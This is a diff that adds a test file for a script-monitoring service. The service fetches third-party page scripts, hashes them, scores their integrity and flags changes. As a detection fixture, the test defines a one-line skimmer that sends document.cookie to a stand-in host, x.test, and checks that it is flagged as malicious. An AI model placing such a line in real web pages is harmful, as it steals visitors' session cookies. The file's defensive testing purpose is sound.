@@ -1,0 +1,150 @@
+import assert from 'node:assert/strict';
+import { once } from 'node:events';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { after, before, it } from 'node:test';
+import { gzipSync } from 'node:zlib';
+import { sampleScript } from '../../src/areas/page-monitoring/fixtures/sample-observation.ts';
+import type { PageFinding } from '../../src/contracts/events/page-finding.ts';
+import { describeOnEachDatabase } from '../support/databases.ts';
+import { openTestApi, type TestApi } from '../support/test-api.ts';
+
+const HOUR = 3_600_000;
+const CLEAN = 'document.title = "Welcome";';
+const SKIMMER = 'new Image().src = "//x.test/?" + document.cookie';
+const never = new AbortController().signal;
+
+describeOnEachDatabase('fetching of scripts', (kind) => {
+  let api: TestApi;
+  let server: Server;
+  let origin: string;
+  const contents = new Map<string, string>();
+  const fetched: string[] = [];
+  let zones = 0;
+  let messages = 0;
+
+  before(async () => {
+    api = await openTestApi(kind, { settings: { PALISADE_OUTBOUND_ALLOW: '127.0.0.1/32' } });
+    server = createServer((request, response) => {
+      fetched.push(request.url ?? '');
+      const content = contents.get(request.url ?? '');
+      if (content === undefined) return void response.writeHead(404).end();
+      response.writeHead(200, { 'content-encoding': 'gzip' }).end(gzipSync(content));
+    }).listen(0, '127.0.0.1');
+    await once(server, 'listening');
+    origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+  });
+  after(async () => {
+    server.close();
+    await api.close();
+  });
+
+  async function newZone(): Promise<string> {
+    const body = { name: `shop-${++zones}.test`, account: { id: api.accountId } };
+    return (await api.call('POST', '/zones', { body })).body.result.id;
+  }
+
+  async function see(zoneId: string, url: string, count = 3): Promise<void> {
+    const now = api.clock.now();
+    const seen = sampleScript(zoneId, { url, count, firstSeenAt: now, lastSeenAt: now });
+    const subscription = api.core.modules
+      .flatMap((module) => module.subscriptions ?? [])
+      .find(({ topic }) => topic === 'page-observations');
+    const message = { id: `m-${++messages}`, source: 'edge-1', publishedAt: now, payload: seen };
+    await subscription?.handle([message], never);
+  }
+
+  async function run(): Promise<void> {
+    const jobs = api.core.modules.flatMap((module) => module.jobs);
+    await jobs.find(({ name }) => name === 'page-script-fetch')?.run(never);
+  }
+
+  async function only(zoneId: string) {
+    const base = `/zones/${zoneId}/page_shield/scripts`;
+    const list = await api.call('GET', `${base}?status=active,infrequent,inactive`);
+    const { id } = list.body.result[0];
+    const script = (await api.call('GET', `${base}/${id}`)).body.result;
+    const { reasons } = (await api.call('GET', `${base}/${id}/reasons`)).body.result;
+    return { script, reasons };
+  }
+
+  function findings(zoneId: string): string[] {
+    const all = (api.published.get('page-findings') ?? []) as PageFinding[];
+    return all
+      .filter((each) => each.zoneId === zoneId && !each.kind.startsWith('new_'))
+      .map((each) => each.kind);
+  }
+
+  it('happens when a script becomes active and once a day, and tells of changes', async () => {
+    const zoneId = await newZone();
+    const url = `${origin}/shop.js`;
+    contents.set('/shop.js', CLEAN);
+    await see(zoneId, url, 2);
+    await run();
+    assert.equal((await only(zoneId)).script.hash, null);
+    await see(zoneId, url, 1);
+    await run();
+    await run();
+    const first = await only(zoneId);
+    assert.equal(fetched.filter((path) => path === '/shop.js').length, 1);
+    assert.match(first.script.hash, /^[0-9a-f]{64}$/);
+    assert.ok(first.script.js_integrity_score > 50);
+    assert.equal(first.script.versions.length, 1);
+    assert.deepEqual(findings(zoneId), []);
+
+    contents.set('/shop.js', SKIMMER);
+    await api.clock.advance(24 * HOUR);
+    await run();
+    const second = await only(zoneId);
+    assert.ok(second.script.js_integrity_score < 10);
+    assert.deepEqual(
+      second.script.versions.map(({ hash }: { hash: string }) => hash),
+      [second.script.hash, first.script.hash],
+    );
+    assert.ok(second.reasons.length > 0 && second.reasons[0].points > 0);
+    assert.deepEqual(findings(zoneId), ['code_change', 'malicious_script']);
+
+    // The same again is no news.
+    await api.clock.advance(24 * HOUR);
+    await run();
+    assert.equal((await only(zoneId)).script.versions.length, 2);
+    assert.equal(findings(zoneId).length, 2);
+  });
+
+  it('gives scripts without scores a hash, and leaves alone what cannot be fetched', async () => {
+    const zoneId = await newZone();
+    contents.set('/large.js', `var a = "${'x'.repeat(310_000)}";`);
+    await see(zoneId, `${origin}/large.js`);
+    await run();
+    const { script } = await only(zoneId);
+    assert.match(script.hash, /^[0-9a-f]{64}$/);
+    assert.equal(script.js_integrity_score, null);
+
+    const other = await newZone();
+    await see(other, `${origin}/missing.js`);
+    const refused = await newZone();
+    await see(refused, 'http://10.0.0.1/private.js');
+    await run();
+    for (const zone of [other, refused]) assert.equal((await only(zone)).script.hash, null);
+    contents.set('/missing.js', CLEAN);
+    await run();
+    assert.equal((await only(other)).script.hash, null);
+    await api.clock.advance(HOUR);
+    await run();
+    assert.notEqual((await only(other)).script.hash, null);
+  });
+
+  it('stops when a script is no longer active, and starts when it is seen again', async () => {
+    const zoneId = await newZone();
+    contents.set('/rare.js', CLEAN);
+    await see(zoneId, `${origin}/rare.js`);
+    await run();
+    await api.clock.advance(8 * 24 * HOUR);
+    await run();
+    const count = () => fetched.filter((path) => path === '/rare.js').length;
+    assert.equal(count(), 1);
+    await see(zoneId, `${origin}/rare.js`, 1);
+    await run();
+    assert.equal(count(), 2);
+  });
+});
